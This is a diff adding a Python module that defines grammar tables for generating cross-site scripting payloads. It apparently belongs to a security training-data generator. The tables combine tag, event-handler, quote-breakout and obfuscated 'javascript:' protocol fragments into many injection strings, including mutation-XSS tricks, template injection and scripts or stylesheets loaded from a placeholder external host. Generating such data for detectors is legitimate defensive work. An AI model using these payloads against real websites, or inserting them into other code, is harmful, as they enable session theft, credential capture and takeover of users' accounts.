@@ -1,0 +1,50 @@
+"""Cross-site scripting: elements, handlers, script addresses, breaking out of attributes and strings."""
+
+from portcullis_train.attack.expand import Grammar
+
+TABLES = {
+    "out": ["", "", '"', "'", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", '"/>', "`>", "</style>", "'\"><", ")", "</noscript>", "</select>", "*/", "«word»\">", "«word»"],
+    "tag": ["img", "svg", "body", "input", "details", "video", "audio", "iframe", "object", "embed", "marquee", "math", "a", "div", "button", "select", "textarea", "x", "«word»", "form", "isindex", "style",
+            "IMG", "sVg", "keygen", "frameset", "table", "link", "base", "custom-«word»", "image", "p", "b", "bgsound", "template", "dialog"],
+    "on": ["onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onstart", "onpageshow", "onanimationstart", "onpointerenter", "onwheel", "oncopy", "ONERROR", "oNlOaD", "onbegin", "onhashchange",
+           "onscroll", "onresize", "onpaste", "oncut", "onauxclick", "onbeforeinput", "oninput", "onsubmit", "onkeyup", "ondblclick", "ontransitionend", "onfocusin", "onloadstart", "onbeforetoggle", "oncontentvisibilityautostatechange"],
+    "sl": [" ", " ", "/", "\t", "\n", "/«word»/", "  ", "%0c", " «word»=«num» ", "/ "],
+    "eq": ["=", "=", "=", " = ", "=\n", "= "],
+    "qv": ['"', "'", "", "`"],
+    "pre": ["", "", "", "src=x ", "src=«num» ", "src ", "href=# ", "autofocus ", "open ", "style=«word» ", "src=//«host»/«word».png ", "tabindex=1 ", "contenteditable ", "href=\"//«host»\" "],
+    "proto": ["javascript:", "JaVaScRiPt:", "java\tscript:", "javascript&colon;", "&#106;avascript:", "data:text/html,", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:", " javascript:", "javascript://%0a", "java&#x0A;script:"],
+}
+
+GRAMMARS = [Grammar("xss", [
+    "«out»<script«?>»>«js»</script>",
+    "«out»<script>«js»</script>",
+    "«out»<ScRiPt >«js»</sCrIpT>",
+    "«out»<script«sl»src«eq»//«host»/«word».js></script>",
+    "«out»<script src=«?\"»http://«host»/«word».js«?\"»>",
+    "«out»<«tag»«sl»«pre»«on»«eq»«js»>",
+    "«out»<«tag»«sl»«pre»«on»«eq»\"«js»\">",
+    "«out»<«tag»«sl»«pre»«on»«eq»'«js»' ",
+    "«out»<«tag»/«on»=«js»//",
+    "«out»<«tag»«sl»«on»=`«js»`",
+    "\" «on»«eq»\"«js»\" «word»=\"",
+    "' «on»«eq»'«js»' «word»='",
+    "\"«sl»autofocus«sl»«on»=«js» x=\"",
+    "«word»\" «on»=«js» ",
+    "<a href«eq»«qv»«proto»«js»«qv»>«word»</a>",
+    "«proto»«js»",
+    "<iframe src=\"«proto»«js»\"></iframe>",
+    "<iframe srcdoc=\"<img src=x onerror=«js»>\">",
+    "<object data=\"«proto»«js»\">",
+    "<form action=\"«proto»«js»\"><input type=submit>",
+    "<svg><script>«js»</script></svg>",
+    "<svg><animate onbegin=«js» attributeName=x dur=1s>",
+    "<svg><a xlink:href=\"«proto»«js»\"><text x=20 y=20>«word»</text></a>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=«js»>",
+    "';«js»//", "\";«js»//", "'-«js»-'", "\"-«js»-\"", "\\';«js»//", "</script><script>«js»</script>", "`${«js»}`", "'+«js»+'",
+    "<style>@import'//«host»/«word».css';</style>",
+    "<div style=\"width:expression(«js»)\">", "<meta http-equiv=\"refresh\" content=\"0;url=«proto»«js»\">",
+    "<base href=\"//«host»/\">", "<link rel=stylesheet href=\"//«host»/«word».css\">", "<embed src=\"«proto»«js»\">",
+    "<input value=\"«word»\" «on»=\"«js»\">", "<video><source «on»=\"«js»\">", "<img src=\"x\"«on»=\"«js»\"/>",
+    "«word»<img src=x «on»=«js»>«word»", "{{constructor.constructor('«js»')()}}", "<xml onpropertychange=«js»>", "<!--<img src=\"--><img src=x onerror=«js»//\">",
+    "<noscript><p title=\"</noscript><img src=x onerror=«js»>\">", "<form id=x tabindex=1 onfocus=«js»></form>#x", "%3Cscript%3E«js»%3C/script%3E",
+], TABLES)]
